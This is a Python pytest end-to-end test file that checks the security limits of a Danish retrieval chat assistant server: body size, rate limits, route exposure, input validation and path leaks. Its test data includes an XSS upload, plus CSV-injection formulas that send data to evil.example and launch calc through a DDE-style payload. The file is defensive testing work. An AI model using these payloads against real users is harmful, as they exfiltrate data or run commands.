"""Issue #11's requests, sent to a real `assistant serve` on 127.0.0.1: every limit holds,
chunked or not, on our routes and Gradio's; nothing answers 5xx or leaks a path.

Servers that need no vectors retrieve with BM25 only (fast to start); the tokenizer and
start-up faults are tested on servers with the real model.
"""

from __future__ import annotations

import contextlib
import csv
import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from assistant.settings import Settings

from .live import Live, app_env, serve
from .scripted_llm import ScriptedServer

pytestmark = [pytest.mark.e2e, pytest.mark.server]

QUESTION = {"question": "Hvad går det sjette råd ud på?"}
FEEDBACK = {"rating": "up", "question": "Q", "answer": "A", "citations": []}


@contextlib.contextmanager
def lexical_server(real_index: Settings, folder: Path, per_minute: str) -> Iterator[Live]:
    """BM25 retrieval (quick to start), the chat loaded, this many questions per minute."""
    env = app_env(real_index, folder, retrieval_mode="bm25", rate_limit_per_minute=per_minute)
    with serve(env, {"api": "ready", "chat": "ready"}) as live:
        yield live


@pytest.fixture(scope="module")
def lexical(real_index: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    """No rate limit: for body limits, Gradio's routes and feedback."""
    with lexical_server(real_index, tmp_path_factory.mktemp("lexical"), "0") as live:
        yield live


@pytest.fixture(scope="module")
def limited(real_index: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    with lexical_server(real_index, tmp_path_factory.mktemp("limited"), "3") as live:
        yield live


def chunks(total: int, size: int = 64 * 1024) -> Iterator[bytes]:
    """A body with no Content-Length: httpx sends it chunked."""
    sent = 0
    while sent < total:
        yield b"x" * min(size, total - sent)
        sent += size


def post_chunked(url: str, total: int) -> int | None:
    """The status, or None when the server closed the connection mid-body after refusing."""
    try:
        return httpx.post(url, content=chunks(total), timeout=60).status_code
    except httpx.TransportError:
        return None


# --- #2, #11: bodies are counted as they arrive; Gradio's unused routes are gone


@pytest.mark.parametrize("size", [1_000_000, 20_000_000])
@pytest.mark.parametrize("path", ["/api/ask", "/api/feedback", "/gradio_api/queue/join"])
def test_a_chunked_body_over_the_limit_is_refused(lexical: Live, path: str, size: int) -> None:
    assert post_chunked(lexical.url + path, size) in (413, None)
    assert httpx.post(lexical.url + "/api/ask", json=QUESTION).status_code == 200


def test_a_big_history_or_citation_list_is_refused_and_not_stored(lexical: Live) -> None:
    history = [{"role": "user", "content": "x" * 1000}] * 20_000
    big = httpx.post(lexical.url + "/api/ask", json=QUESTION | {"history": history})
    assert big.status_code == 413
    citations = [{"n": 1, "chunk_id": "c", "quote": "x" * 1000}] * 10_000
    body = json.dumps(FEEDBACK | {"citations": citations}).encode()
    refused = httpx.post(lexical.url + "/api/feedback", content=body)
    assert refused.status_code == 413 and refused.json()["error"] == "too_large"
    assert post_chunked(lexical.url + "/api/feedback", len(body)) in (413, None)
    database = Path(lexical.env["ASSISTANT_FEEDBACK_DB"])
    assert not database.exists() or database.stat().st_size < 1_000_000


@pytest.mark.parametrize(
    "path",
    [
        "/gradio_api/call/false",
        "/gradio_api/call/v2/false",
        "/gradio_api/run/predict",
        "/gradio_api/api/predict",
        "/gradio_api/upload",
    ],
)
def test_gradio_routes_the_chat_does_not_use_are_not_found(lexical: Live, path: str) -> None:
    response = httpx.post(lexical.url + path, json={"data": ["Hvad er råd 1?"]})
    assert response.status_code == 404 and response.json()["error"] == "not_found"


def test_an_html_upload_is_not_stored_or_served(lexical: Live) -> None:
    files = {"files": ("evil.html", b"<script>alert(1)</script>", "text/html")}
    response = httpx.post(lexical.url + "/gradio_api/upload", files=files)
    assert response.status_code == 404
    temp = Path(lexical.env["GRADIO_TEMP_DIR"])
    assert not temp.exists() or not [p for p in temp.rglob("*") if p.name == "evil.html"]
    assert httpx.get(lexical.url + "/gradio_api/file=evil.html").status_code == 404


def test_the_chat_page_has_no_api_endpoints(lexical: Live) -> None:
    config = httpx.get(lexical.url + "/config").json()
    names = [d.get("api_name") for d in config["dependencies"]]
    assert not any(str(name).startswith("false") for name in names)
    assert all(d.get("api_visibility") == "private" for d in config["dependencies"])


# --- #3, #5, #9: one budget per client, whatever the route or the X-Forwarded-For header


def test_the_question_budget_covers_the_chat_queue_and_ignores_forwarded_for(
    limited: Live,
) -> None:
    for n in range(3):
        spoofed = {"X-Forwarded-For": f"10.0.0.{n}"}
        assert httpx.post(limited.url + "/api/ask", json=QUESTION, headers=spoofed).is_success
    refused = httpx.post(
        limited.url + "/api/ask", json=QUESTION, headers={"X-Forwarded-For": "10.9.9.9"}
    )
    assert refused.status_code == 429 and refused.json()["error"] == "rate_limited"
    join = {"data": ["Hvad er råd 1?", [], []], "fn_index": 0, "session_hash": "abc"}
    assert httpx.post(limited.url + "/gradio_api/queue/join", json=join).status_code == 429
    assert httpx.post(limited.url + "/gradio_api/call/false", json=join).status_code == 404


def test_feedback_has_its_own_budget(limited: Live) -> None:
    statuses = [
        httpx.post(limited.url + "/api/feedback", json=FEEDBACK).status_code for _ in range(5)
    ]
    assert statuses == [201, 201, 201, 429, 429]


def test_behind_a_trusted_proxy_the_budget_counts_real_clients(
    real_index: Settings, tmp_path: Path
) -> None:
    env = app_env(
        real_index,
        tmp_path,
        retrieval_mode="bm25",
        rate_limit_per_minute="1",
        trusted_proxies="127.0.0.1",
    )
    with serve(env) as live:

        def ask(client: str) -> int:
            headers = {"X-Forwarded-For": client}
            return httpx.post(live.url + "/api/ask", json=QUESTION, headers=headers).status_code

        assert [ask("10.0.0.1"), ask("10.0.0.1"), ask("10.0.0.2")] == [200, 429, 200]


# --- #5: feedback is typed, finite and bounded; its 422 speaks of feedback


@pytest.mark.parametrize(
    "body",
    [
        b'{"rating": "up", "question": "Q", "answer": "A", "citations": [{"n": NaN, '
        b'"chunk_id": "c"}]}',
        b'{"rating": "up", "question": "Q", "answer": "A", "citations": [{"n": 1e999, '
        b'"chunk_id": "c"}]}',
        json.dumps(FEEDBACK | {"citations": [{"n": 1, "chunk_id": "c"}] * 21}).encode(),
        json.dumps(FEEDBACK | {"citations": [{"n": 1, "chunk_id": "c" * 5000}]}).encode(),
        b'{"rating": "meh", "question": "Q", "answer": "A"}',
    ],
)
def test_bad_feedback_gets_a_feedback_message(lexical: Live, body: bytes) -> None:
    response = httpx.post(
        lexical.url + "/api/feedback", content=body, headers={"content-type": "application/json"}
    )
    assert response.status_code == 422
    assert response.json()["error"] == "invalid_feedback"
    assert "Bedømmelsen" in response.json()["message"]


# --- #6: the CSV export opens as text in a spreadsheet

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_feedback_export_neutralises_formulas(lexical: Live, tmp_path: Path) -> None:
    for text in FORMULAS:
        body = FEEDBACK | {"question": text, "answer": text, "comment": text}
        assert httpx.post(lexical.url + "/api/feedback", json=body).status_code == 201
    out = tmp_path / "feedback.csv"
    env = os.environ | {"ASSISTANT_FEEDBACK_DB": lexical.env["ASSISTANT_FEEDBACK_DB"]}
    subprocess.run(
        [sys.executable, "-m", "assistant", "feedback", "export", "--out", str(out)],
        env=env,
        check=True,
        capture_output=True,
    )
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [row[c] for row in rows for c in ("question", "answer", "comment")]
    assert cells, "the feedback was exported"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for text in FORMULAS:
        assert "'" + text in cells


# --- #4: the concurrency cap holds until the last streamed line


def test_a_streamed_answer_holds_its_slot_until_the_end(
    real_index: Settings, tmp_path: Path
) -> None:
    with ScriptedServer() as llm:
        # The first reply is held until the others have been refused: no race with the
        # machine's load (a fixed delay let a late thread in after the first had finished).
        llm.script.mode, llm.script.delay = "slow", 30.0
        llm.script.text = "Sæt små skibe i søen [1]."
        env = app_env(
            real_index,
            tmp_path,
            queue_max_size="1",
            rate_limit_per_minute="0",
            llm="openai:scripted",
            llm_base_url=llm.base_url,
            llm_timeout="20",
        )
        with serve(env) as live:
            results: list[tuple[int, str]] = []

            def stream() -> None:
                with httpx.stream(
                    "POST", live.url + "/api/ask/stream", json=QUESTION, timeout=60
                ) as response:
                    lines = [json.loads(line) for line in response.iter_lines() if line]
                    results.append((response.status_code, lines[-1].get("type", "")))

            first = threading.Thread(target=stream)
            first.start()
            deadline = time.monotonic() + 30
            while not llm.script.requests and time.monotonic() < deadline:
                time.sleep(0.05)  # the first answer holds the slot and waits for the model
            others = [threading.Thread(target=stream) for _ in range(3)]
            for thread in others:
                thread.start()
            for thread in others:
                thread.join(timeout=60)
            llm.script.release.set()
            first.join(timeout=60)
            assert sorted(results) == [(200, "answer")] + [(503, "")] * 3
            stream()
            assert results[-1] == (200, "answer"), "the slot is free once the answer is sent"


# --- #8: lone surrogates and control characters are text, not a 500


@pytest.fixture(scope="module")
def dense(real_index: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    folder = tmp_path_factory.mktemp("dense")
    with serve(app_env(real_index, folder, rate_limit_per_minute="0")) as live:
        yield live


@pytest.mark.parametrize(
    "body",
    [
        b'{"question": "\\udc80 hej"}',
        b'{"question": "\\ud800\\ud800 Hvad er r\\u00e5d 6?"}',
        b'{"question": "hej", "history": [{"role": "user", "content": "\\udc80 x"}]}',
        b'{"question": "\\u0000\\u0001\\u001b[31m r\\u00e5d 2 \\u200b\\ufeff"}',
    ],
)
@pytest.mark.parametrize("route", ["/api/ask", "/api/ask/stream"])
def test_surrogates_and_control_characters_are_answered(
    dense: Live, route: str, body: bytes
) -> None:
    response = httpx.post(
        dense.url + route, content=body, headers={"content-type": "application/json"}
    )
    assert response.status_code == 200
    if route.endswith("stream"):
        assert json.loads(response.text.splitlines()[-1])["type"] == "answer"


# --- #10: start-up faults are explained without paths or exception text


def broken_index(settings: Settings, folder: Path) -> dict[str, str]:
    index = folder / "index-is-a-file"
    index.write_text("not a folder")
    return {"ASSISTANT_INDEX_DIR": str(index)}


def corrupt_index(settings: Settings, folder: Path) -> dict[str, str]:
    import shutil

    index = folder / "corrupt-index"
    shutil.copytree(settings.index_dir, index)
    (index / "chroma.sqlite3").write_bytes(b"not a database" * 100)
    return {"ASSISTANT_INDEX_DIR": str(index)}


def missing_model(settings: Settings, folder: Path) -> dict[str, str]:
    return {"ASSISTANT_EMBEDDING_MODEL": str(folder / "no-such-model")}


@pytest.mark.parametrize("fault", [broken_index, corrupt_index, missing_model])
def test_a_startup_fault_is_explained_without_paths(
    real_index: Settings, tmp_path: Path, fault
) -> None:
    env = app_env(real_index, tmp_path) | fault(real_index, tmp_path)
    with serve(env, {"api": "error"}) as live:
        health = httpx.get(live.url + "/healthz")
        answer = httpx.post(live.url + "/api/ask", json=QUESTION)
    for response in (health, answer):
        assert response.status_code == 503
        assert response.json()["message"], "a Danish message says what is wrong"
        for leak in (str(tmp_path), "/", "Error", "Traceback", "errno"):
            assert leak not in response.text.replace("\\/", "")


def test_feedback_with_lone_surrogates_is_stored(lexical: Live) -> None:
    body = b'{"rating": "down", "question": "\\udc80 Q", "answer": "A", "comment": "\\ud800"}'
    response = httpx.post(
        lexical.url + "/api/feedback", content=body, headers={"content-type": "application/json"}
    )
    assert response.status_code == 201


# --- #12: `index --rebuild` empties only a folder that is its own index


def test_rebuild_refuses_a_folder_that_is_not_an_index(tmp_path: Path) -> None:
    folder = tmp_path / "documents"
    folder.mkdir()
    (folder / "budget.xlsx").write_bytes(b"precious")
    (folder / "notes").mkdir()
    env = os.environ | {"ASSISTANT_INDEX_DIR": str(folder), "ASSISTANT_CORPUS_DIR": "corpus"}
    run = subprocess.run(
        [sys.executable, "-m", "assistant", "index", "--rebuild"],
        env=env,
        capture_output=True,
        text=True,
        cwd=Path(__file__).resolve().parent.parent,
    )
    assert run.returncode == 3
    assert "is not an index built by `assistant index`" in run.stderr
    assert "Traceback" not in run.stderr
    assert (folder / "budget.xlsx").read_bytes() == b"precious" and (folder / "notes").is_dir()
